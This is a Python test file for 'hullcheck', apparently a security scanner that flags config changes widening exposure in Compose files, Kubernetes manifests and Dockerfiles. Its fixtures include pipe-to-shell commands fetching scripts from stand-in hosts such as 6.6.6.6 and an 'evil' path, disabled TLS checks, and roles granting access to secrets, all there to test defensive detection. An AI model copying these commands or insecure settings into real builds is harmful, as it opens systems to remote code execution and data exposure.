"""A fault that was there reaches further after a change: new at the gate. One that reaches less, or is told otherwise, isn't."""

from pathlib import Path

import pytest

from gitrepo import Outcome, Repo
from hullcheck.cli import main

DIGEST = "sha256:" + "0" * 63 + "1"
PASSWORD = "    environment: {POSTGRES_PASSWORD_FILE: /run/secrets/db}\n"
COMPOSE = """\
services:
  db:
    image: postgres:17.2
    user: "999"
    restart: always
    ports: [%s]
"""


def policy(name: str, select: str, rules: str, kind: str = "ingress") -> str:
    types = "Ingress" if kind == "ingress" else "Egress"
    return f"""\
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {{name: {name}, namespace: shop}}
spec:
  podSelector: {select}
  policyTypes: [{types}]
  {kind}: {rules}
"""


def workload(name: str, image: str, port: int) -> str:
    return f"""\
apiVersion: apps/v1
kind: Deployment
metadata: {{name: {name}, namespace: shop}}
spec:
  selector: {{matchLabels: {{app: {name}}}}}
  template:
    metadata: {{labels: {{app: {name}}}}}
    spec:
      automountServiceAccountToken: false
      containers:
        - name: {name}
          image: {image}
          ports: [{{containerPort: {port}}}]
"""


def service(name: str, port: int, extra: str = "", metadata: str = "") -> str:
    return f"""\
apiVersion: v1
kind: Service
metadata: {{name: {name}, namespace: shop{metadata}}}
spec:
  type: LoadBalancer
  selector: {{app: {name}}}
  ports: [{{port: {port}}}]
{extra}"""


def role(*rules: str, name: str = "agent") -> str:
    return (
        f"apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {{name: {name}}}\nrules:\n"
        + "".join(f"  - {rule}\n" for rule in rules)
        + "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: agent}\n"
        f"roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {name}}}\n"
        "subjects: [{kind: ServiceAccount, name: agent, namespace: shop}]\n"
    )


def rule(groups: str, resources: str, verbs: str, more: str = "") -> str:
    return f"{{apiGroups: [{groups}], resources: [{resources}], verbs: [{verbs}]{more}}}"


DB = workload("db", "postgres:17.2", 5432)
WEB = workload("web", "registry.example.org/web:1.2", 8080)
TOOL = workload("tool", "registry.example.org/tool:1.2", 8080)
NAMESPACE = "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n  labels: {%s}\n"
ENFORCE = "pod-security.kubernetes.io/enforce: "
LB = "db", 5432
DOCKERFILE = "FROM debian:13.1@" + DIGEST + "\nRUN %s\nUSER 10001\n"


def docs(*texts: str) -> str:
    return "---\n".join(texts)


def base_of(*rules: str) -> str:
    return docs(DB, WEB, TOOL, policy("db", "{matchLabels: {app: db}}", f"[{', '.join(rules)}]"))


def cidr(text: str, more: str = "") -> str:
    return f"{{from: [{{ipBlock: {{cidr: {text}{more}}}}}], ports: [{{port: 5432}}]}}"


def pods(text: str) -> str:
    return f"{{from: [{text}], ports: [{{port: 5432}}]}}"


ONLY_WEB = pods("{podSelector: {matchLabels: {app: web}}}")
OUT = policy("web", "{matchLabels: {app: web}}", "[{to: [{ipBlock: {cidr: %s}}], ports: [{port: 443}]}]", "egress")
PUBLIC_DB = service(*LB)
INGRESS = """\
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: db
  namespace: shop
  annotations: {example.org/of: shop%s}
spec:
  tls: [{hosts: [db.example.org], secretName: db}]
  rules:
    - host: db.example.org
      http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: db, port: {number: 5432}}}}]}
"""
CLUSTER_IP = PUBLIC_DB.replace("LoadBalancer", "ClusterIP")
ALLOW = ', nginx.ingress.kubernetes.io/whitelist-source-range: "10.0.0.0/8"'
INTERNAL = ', annotations: {service.beta.kubernetes.io/aws-load-balancer-scheme: "internal"}'
POD = """\
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: shop}
spec:
  automountServiceAccountToken: false
  containers:
    - name: agent
      image: registry.example.org/agent:1.2
      securityContext: {capabilities: {add: [%s]}}
      volumeMounts: [{name: host, mountPath: /host%s}]
  volumes: [{name: host, hostPath: {path: %s}}]
"""


def pod(capabilities: str = "NET_ADMIN", path: str = "/var/log/app", how: str = "") -> str:
    return POD % (capabilities, how, path)


SECRETS = rule('""', "secrets", "get")

BINDING = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: %s, namespace: %s}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: reader}
subjects: [{kind: ServiceAccount, name: agent, namespace: %s}]
"""
BOUND = docs(role(SECRETS, name="reader").split("---\n")[0], BINDING % ("agent", "shop", "shop"))

WIDER: dict[str, tuple[str, str, str, str]] = {
    "a database on every interface": ("compose.yaml", COMPOSE % '"10.0.0.5:5432:5432"', COMPOSE % '"5432:5432"', "datastore-published"),
    "a second address": ("compose.yaml", COMPOSE % '"10.0.0.5:5432:5432"', COMPOSE % '"10.0.0.5:5432:5432", "10.1.0.5:5432:5432"', "datastore-published"),
    "another address": ("compose.yaml", COMPOSE % '"10.0.0.5:5432:5432"', COMPOSE % '"192.168.0.5:5432:5432"', "datastore-published"),
    "all addresses before a load balancer": ("k.yaml", docs(base_of(cidr("10.0.0.0/24")), PUBLIC_DB), docs(base_of(cidr("0.0.0.0/0")), PUBLIC_DB), "exposed-datastore"),
    "all addresses in halves": ("k.yaml", docs(base_of(cidr("10.0.0.0/24")), PUBLIC_DB), docs(base_of(cidr("0.0.0.0/1"), cidr("128.0.0.0/1")), PUBLIC_DB), "exposed-datastore"),
    "an exception less": ("k.yaml", docs(base_of(cidr("10.0.0.0/8", ", except: [10.1.0.0/16]")), PUBLIC_DB), docs(base_of(cidr("10.0.0.0/8")), PUBLIC_DB), "exposed-datastore"),
    "all addresses, without a load balancer": ("k.yaml", base_of(cidr("10.0.0.0/24")), base_of(cidr("0.0.0.0/0")), "path-opened"),
    "every pod of the namespace": ("k.yaml", base_of(ONLY_WEB), base_of(pods("{podSelector: {}}")), "path-opened"),
    "every pod of the cluster": ("k.yaml", base_of(ONLY_WEB), base_of(pods("{namespaceSelector: {}}")), "path-opened"),
    "every pod of the namespace, where no other is known": (
        "k.yaml", docs(DB, WEB, policy("db", "{matchLabels: {app: db}}", f"[{ONLY_WEB}]")),
        docs(DB, WEB, policy("db", "{matchLabels: {app: db}}", f"[{pods('{podSelector: {}}')}]")), "path-opened"),
    "another namespace": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB, pods("{namespaceSelector: {matchLabels: {team: x}}}")), "path-opened"),
    "egress to everywhere": ("k.yaml", docs(DB, WEB, OUT % "203.0.113.9/32"), docs(DB, WEB, OUT % "0.0.0.0/0"), "path-opened"),
    "a script from another host": ("Dockerfile", DOCKERFILE % "curl https://1.2.3.4/a.sh | sh", DOCKERFILE % "curl https://6.6.6.6/a.sh | sh", "pipe-to-shell"),
    "a script from another path": ("Dockerfile", DOCKERFILE % "curl https://example.org/good/a.sh | sh", DOCKERFILE % "curl https://example.org/evil/a.sh | sh", "pipe-to-shell"),
    "an image from another registry": ("Dockerfile", "FROM 10.0.0.1:5000/app:latest\nUSER 1\n", "FROM 66.6.6.6:5000/app:latest\nUSER 1\n", "latest-tag"),
    "another second index": ("Dockerfile", DOCKERFILE % "pip install --extra-index-url https://a.example.org/simple x==1", DOCKERFILE % "pip install --extra-index-url https://b.example.org/simple x==1", "extra-index-url"),
    "another host without TLS": ("Dockerfile", DOCKERFILE % "pip install --trusted-host a.example.org x==1", DOCKERFILE % "pip install --trusted-host b.example.org x==1", "tls-verify-off"),
    "a verb": ("k.yaml", role(SECRETS), role(rule('""', "secrets", "get, delete")), "rbac-secrets-access"),
    "a resource": ("k.yaml", role(rule('""', "pods/exec", "create")), role(rule('""', "pods/exec, pods/attach", "create")), "rbac-exec"),
    "more groups under a wildcard": ("k.yaml", role(rule("apps", '"*"', "get")), role(rule("apps, batch", '"*"', "get")), "wildcard-rbac"),
    "names taken away": ("k.yaml", role(rule('""', "pods/exec", "create", ", resourceNames: [a]")), role(rule('""', "pods/exec", "create")), "rbac-exec"),
    "another name": ("k.yaml", role(rule('""', "pods/exec", "create", ", resourceNames: [a]")), role(rule('""', "pods/exec", "create", ", resourceNames: [a, b]")), "rbac-exec"),
    "another account": ("k.yaml", role(SECRETS), role(SECRETS).replace("namespace: shop}]", "namespace: shop}, {kind: ServiceAccount, name: web, namespace: shop}]"), "rbac-secrets-access"),
    "another namespace to act in": ("k.yaml", BOUND, docs(BOUND, BINDING % ("more", "more", "shop")), "rbac-secrets-access"),
    "the whole cluster to act in": ("k.yaml", BOUND, docs(BOUND, role(SECRETS).split("---\n")[1].replace("name: agent}\nsub", "name: reader}\nsub")), "rbac-secrets-access"),
    "a worse capability": ("k.yaml", pod("NET_ADMIN"), pod("SYS_TIME"), "dangerous-capability"),
    "a folder further up": ("k.yaml", pod(path="/srv/app"), pod(path="/srv"), "host-path"),
    "to be written": ("k.yaml", pod(path="/srv/app", how=", readOnly: true"), pod(path="/srv/app"), "host-path"),
    "ranges of a load balancer removed": ("k.yaml", docs(DB, WEB, service(*LB, "  loadBalancerSourceRanges: [10.0.0.0/8]\n")), docs(DB, WEB, PUBLIC_DB), "path-opened"),
    "ranges of a load balancer widened": ("k.yaml", docs(DB, WEB, service(*LB, "  loadBalancerSourceRanges: [10.0.0.0/8]\n")), docs(DB, WEB, service(*LB, "  loadBalancerSourceRanges: [0.0.0.0/0]\n")), "path-opened"),
    "ranges of a front end widened": ("k.yaml", docs(WEB, service("web", 8080, "  loadBalancerSourceRanges: [10.0.0.0/8]\n")), docs(WEB, service("web", 8080)), "path-opened"),
    "a load balancer not internal any more": ("k.yaml", docs(DB, WEB, service(*LB, metadata=INTERNAL)), docs(DB, WEB, PUBLIC_DB), "path-opened"),
    "an ingress without its list": ("k.yaml", docs(DB, WEB, CLUSTER_IP, INGRESS % ALLOW), docs(DB, WEB, CLUSTER_IP, INGRESS % ""), "path-opened"),
    "a namespace that lets everything": ("k.yaml", docs(NAMESPACE % (ENFORCE + "restricted"), WEB), docs(NAMESPACE % (ENFORCE + "privileged"), WEB), "pod-security-relaxed"),
    "a namespace that lets more": ("k.yaml", docs(NAMESPACE % (ENFORCE + "restricted"), WEB), docs(NAMESPACE % (ENFORCE + "baseline"), WEB), "pod-security-relaxed"),
    "a namespace without its label": ("k.yaml", docs(NAMESPACE % (ENFORCE + "restricted"), WEB), docs(NAMESPACE % "", WEB), "pod-security-relaxed"),
    "a namespace without its manifest": ("k.yaml", docs(NAMESPACE % (ENFORCE + "baseline"), WEB), WEB, "pod-security-relaxed"),
    "a policy that selects nothing": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB).replace("podSelector: {matchLabels: {app: db}}", "podSelector: {matchLabels: {app: dbb}}"), "isolation-lost"),
    "a policy of an unknown kind": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB).replace("kind: NetworkPolicy", "kind: NetworkPolice"), "isolation-lost"),
    "a policy of an unknown group": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB).replace("networking.k8s.io/v1", "networkingk8s.io/v1"), "isolation-lost"),
    "a policy of an unknown version": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB).replace("networking.k8s.io/v1", "networking.k8s.io/v2"), "isolation-lost"),
    "a policy of a plugin": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB).replace("networking.k8s.io/v1\nkind: NetworkPolicy", "cilium.io/v2\nkind: OtherNetworkPolicy"), "isolation-lost"),
    "egress that isn't confined": ("k.yaml", docs(DB, WEB, OUT % "10.0.0.0/8"), docs(DB, WEB, (OUT % "10.0.0.0/8").replace("[Egress]", "[Ingress]")), "isolation-lost"),
}  # fmt: skip

SAME = {
    "a port list in another order": ("compose.yaml", COMPOSE % '"10.0.0.5:5432:5432", "10.1.0.5:5432:5432"', COMPOSE % '"10.1.0.5:5432:5432", "10.0.0.5:5432:5432"'),
    "a rule in halves": ("k.yaml", docs(base_of(cidr("0.0.0.0/0")), PUBLIC_DB), docs(base_of(cidr("128.0.0.0/1"), cidr("0.0.0.0/1")), PUBLIC_DB)),
    "halves put together": ("k.yaml", docs(base_of(cidr("128.0.0.0/1"), cidr("0.0.0.0/1")), PUBLIC_DB), docs(base_of(cidr("0.0.0.0/0")), PUBLIC_DB)),
    "a role's rule split": ("k.yaml", role(rule('""', "secrets, pods/exec", "get")), role(rule('""', "pods/exec", "get"), rule('""', "secrets", "get"))),
    "a role's rule joined": ("k.yaml", role(rule('""', "pods/exec", "get"), rule('""', "secrets", "get")), role(rule('""', "secrets, pods/exec", "get"))),
    "a verb less": ("k.yaml", role(rule('""', "secrets", "get, list, delete")), role(rule('""', "secrets", "delete, get"))),
    "the account renamed": ("k.yaml", role(SECRETS), role(SECRETS).replace("ServiceAccount, name: agent", "ServiceAccount, name: collector")),
    "the namespace renamed": ("k.yaml", BOUND, BOUND.replace("shop", "store")),
    "something harmless in the same rule": ("k.yaml", role(SECRETS), role(rule('""', "secrets, services", "get"))),
    "a newer version of a script": ("Dockerfile", DOCKERFILE % "curl https://example.org/1.2.3/a.sh | sh", DOCKERFILE % "curl https://example.org/1.3.0.1/a.sh | sh"),
    "another label everywhere": ("k.yaml", base_of(ONLY_WEB), base_of(ONLY_WEB).replace("app: web", "app: front")),
    "another namespace's label": ("k.yaml", docs(NAMESPACE % (ENFORCE + "restricted"), WEB), docs(NAMESPACE % (ENFORCE + "restricted, a: b"), WEB)),
    "a narrower port range": ("compose.yaml", (COMPOSE % '"8000-8100:8000-8100"').replace("postgres:17.2", "registry.example.org/web:1"), (COMPOSE % '"8000-8010:8000-8010"').replace("postgres:17.2", "registry.example.org/web:1")),
}  # fmt: skip

AT_HIGH = (
    "a namespace that lets everything", "a namespace that lets more", "a namespace without its label", "a namespace without its manifest",
    "a policy that selects nothing", "a policy of an unknown kind", "a policy of an unknown group", "a policy of an unknown version",
    "a policy of a plugin", "egress that isn't confined", "all addresses before a load balancer", "all addresses in halves",
    "every pod of the namespace", "every pod of the cluster", "every pod of the namespace, where no other is known",
    "ranges of a load balancer removed", "a load balancer not internal any more", "an ingress without its list",
    "a database on every interface", "a script from another host",
)  # fmt: skip


class Gate:
    """A repository with a file, and a change of it."""

    def __init__(self, folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
        self.repo = Repo(folder)
        self.capsys = capsys
        self.monkeypatch = monkeypatch

    def change(self, path: str, before: str, after: str, fail_on: str = "low") -> Outcome:
        self.repo.commit({".hullcheck.yaml": f"fail-on: {fail_on}\nmin-severity: info\n", path: before})
        self.repo.git("switch", "-q", "-c", "change")
        self.repo.commit({path: after})
        return self.repo.run(self.capsys, self.monkeypatch, ".", "--gate", "--diff-base", "main")


@pytest.fixture
def gate(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Gate:
    return Gate(tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("name", WIDER)
def test_what_reaches_further_is_new(gate: Gate, name: str) -> None:
    path, before, after, check = WIDER[name]
    outcome = gate.change(path, before, after, "high" if name in AT_HIGH else "low")
    assert f"{check} {path}" in outcome.new, outcome
    assert outcome.code == 1


@pytest.mark.parametrize("name", [name for name in WIDER if "another" not in name and "worse" not in name])
def test_the_reverse_is_not_new(gate: Gate, name: str) -> None:
    path, after, before, check = WIDER[name]
    outcome = gate.change(path, before, after)
    lost = "egress that isn't confined"  # its reverse takes the other direction away
    assert (f"{check} {path}" in outcome.new) == (name == lost), outcome.new


@pytest.mark.parametrize("name", SAME)
def test_what_reaches_no_further_is_old(gate: Gate, name: str) -> None:
    outcome = gate.change(*SAME[name], "medium")
    assert outcome.code == 0, outcome.new


def test_the_message_says_what_is_reached_now(gate: Gate) -> None:
    path, before, after, check = WIDER["a database on every interface"]
    outcome = gate.change(path, before, after)
    (found,) = (f for f in outcome.report["findings"] if f["name"] == check)
    assert found["message"].endswith("it reaches further than before: every address instead of 10.0.0.5/32")


def test_an_agreed_suppression_does_not_cover_what_reaches_further(gate: Gate) -> None:
    comment = '    # hullcheck: ignore[datastore-published] reason="the office only"\n    ports:'
    before, after = (
        (COMPOSE % port).replace("    ports:", comment) for port in ('"10.0.0.5:5432:5432"', '"5432:5432"')
    )
    outcome = gate.change("compose.yaml", before, after)
    assert "suppression-added compose.yaml" in outcome.new
    assert outcome.code == 1


def test_an_agreed_suppression_covers_what_reaches_less(gate: Gate) -> None:
    comment = '    # hullcheck: ignore[datastore-published] reason="the office only"\n    ports:'
    before, after = (
        (COMPOSE % port).replace("    ports:", comment) for port in ('"10.0.0.0:5432:5432"', '"127.0.0.1:5432:5432"')
    )
    assert gate.change("compose.yaml", before, after, "medium").code == 0


def test_a_baseline_does_not_hold_what_reaches_further(gate: Gate) -> None:
    path, before, after, check = WIDER["a database on every interface"]
    repo = gate.repo
    repo.commit({".hullcheck.yaml": "fail-on: high\nbaseline: old.json\n", path: before})
    gate.monkeypatch.chdir(repo.folder)
    assert main(["baseline", "create", "old.json"]) == 0
    base = repo.commit()
    repo.commit({"README.md": "# more\n"})
    assert repo.run(gate.capsys, gate.monkeypatch, ".", "--gate", "--diff-base", base).code == 0
    repo.commit({path: after})
    outcome = repo.run(gate.capsys, gate.monkeypatch, ".", "--gate", "--diff-base", base)
    assert f"{check} {path}" in outcome.new
    assert outcome.code == 1


def test_a_policy_of_the_next_folder_is_missed(gate: Gate) -> None:
    rules = policy("db", "{matchLabels: {app: db}}", f"[{ONLY_WEB}]")
    gate.repo.commit({"k8s/apps/db.yaml": docs(DB, WEB)})
    outcome = gate.change("k8s/policies/db.yaml", rules, rules.replace("kind: NetworkPolicy", "kind: NetworkPolice"))
    assert "isolation-lost k8s/apps/db.yaml" in outcome.new


SEGMENTED = """\
services:
  web: {image: "registry.example.org/web:1.2", networks: [%s]}
  other: {image: "registry.example.org/other:1.2", networks: [%s]}
  db: {image: "postgres:17.2", networks: [back]}
networks: {front: {}, back: {}}
"""


def severities(outcome: Outcome, name: str) -> list[str]:
    found = [f["severity"] for f in outcome.report["findings"] if f["name"] == name and f["state"] == "new"]
    return sorted(found, key=["info", "low", "medium", "high", "critical"].index)


@pytest.mark.parametrize(
    ("after", "worst"),
    [
        (SEGMENTED % ("front, back", "front"), "medium"),
        (SEGMENTED % ("front, back", "front, back"), "high"),
        (SEGMENTED.replace(", networks: [%s]", "").replace(", networks: [back]", "").replace("networks: {front: {}, back: {}}\n", ""), "high"),
    ],
)  # fmt: skip
def test_in_compose_more_that_is_opened_is_told_no_quieter(gate: Gate, after: str, worst: str) -> None:
    outcome = gate.change("compose.yaml", SEGMENTED % ("front", "front"), after)
    assert severities(outcome, "path-opened")[-1:] == [worst]


def test_what_is_unknown_hides_no_loss(gate: Gate) -> None:
    kustomization = "resources: [db.yaml%s]\n"
    rules = policy("web", "{matchLabels: {app: web}}", "[]")
    gate.repo.commit({"k8s/db.yaml": docs(DB, WEB), "k8s/extra.yaml": rules})
    remote = kustomization % ", https://example.org/crds.yaml"
    outcome = gate.change("k8s/kustomization.yaml", kustomization % ", extra.yaml", remote, "high")
    assert "isolation-lost k8s/db.yaml" in outcome.new
